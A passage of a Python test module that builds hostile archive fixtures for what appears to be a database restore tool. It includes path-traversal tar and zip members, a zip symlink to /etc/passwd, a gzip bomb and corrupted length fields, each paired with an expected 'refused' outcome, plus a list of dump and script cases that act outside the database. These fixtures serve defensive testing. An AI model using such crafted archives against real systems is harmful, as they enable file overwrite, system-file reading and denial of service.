    end[12:16] = len(many).to_bytes(4, "little")
    path.write_bytes(bytes(raw[:directory]) + many + bytes(end))
    return path


def _absurd(place: str) -> Callable[[Maker], Path]:
    def make(maker: Maker) -> Path:
        path = maker.dump("")
        raw = path.read_bytes()
        if place == "string":  # of the first entry, just behind its two numbers
            at = raw.index(b"\0\x01\0\0\0" + b"0", 40)
            path.write_bytes(raw[:at] + b"\0\xff\xff\xff\x3f" + raw[at + 5 :])
        else:
            path.write_bytes(raw[: -(len(raw) // 3)] + b"\x01\x01\0\0\0" * 1000)
        return path

    return make


FILES |= {
    "folder: a link as a large object": _folder(_link_object),
    "folder: a link as its list": _folder(_link_toc),
    "folder: a pipe": _folder(_pipe),
    "folder: a large object outside of it": _folder(_list_outside),
    "tar: a member outside": Hostile(_tar("../../escaped", b"x"), "either", "either"),
    "tar: a link": Hostile(_tar("linked.dat", b"", kind=tarfile.SYMTYPE), "either", "either"),
    "tar: a negative size": Hostile(_tar("negative.dat", b"", size=-512), "refused", "refused"),
    "zip: a member outside": Hostile(_zip(("../../../@d/escaped", b"x"), ("@d/escaped", b"x"))),
    "zip: a link": Hostile(_zip(("link", b"/etc/passwd"), link=True)),
    "zip: larger than any disk": Hostile(_lying_zip, "refused", "refused"),
    "gzip: a bomb": Hostile(_bomb, "refused", "refused"),
    "archive: an absurd string": Hostile(_absurd("string"), "refused", "refused"),
    "archive: absurd numbers": Hostile(_absurd("numbers"), "refused", "refused"),
}

OUTSIDE = (
    "dump: everything at once",
    "dump: everything at once, plain",
    "dump: own role and database",
    "dump: event trigger",
    "dump: functions in C",
    "dump: subscription",
    "dump: settings of the database",
    "archive: program in a comment",
    "archive: role in a comment",
    "archive: become in a comment",
    "archive: drop of another",
    "archive: rows from a program",
    "archive: rows from a file",
    "archive: rows and more",
    "archive: names of many lines",
    "archive: an extension that is not one",
    "archive: properties",
    "script: shell",
    "script: restricted",
    "script: after rows",
    "script: program in a block",
    "script: file",
    "script: hidden extension",
    "script: subscription",
    "script: system",
    "script: tablespace",
    "script: function in C",
    "script: other's sessions",
)
"""Those whose effect would be on programs, files, other databases or the network, one of each kind."""
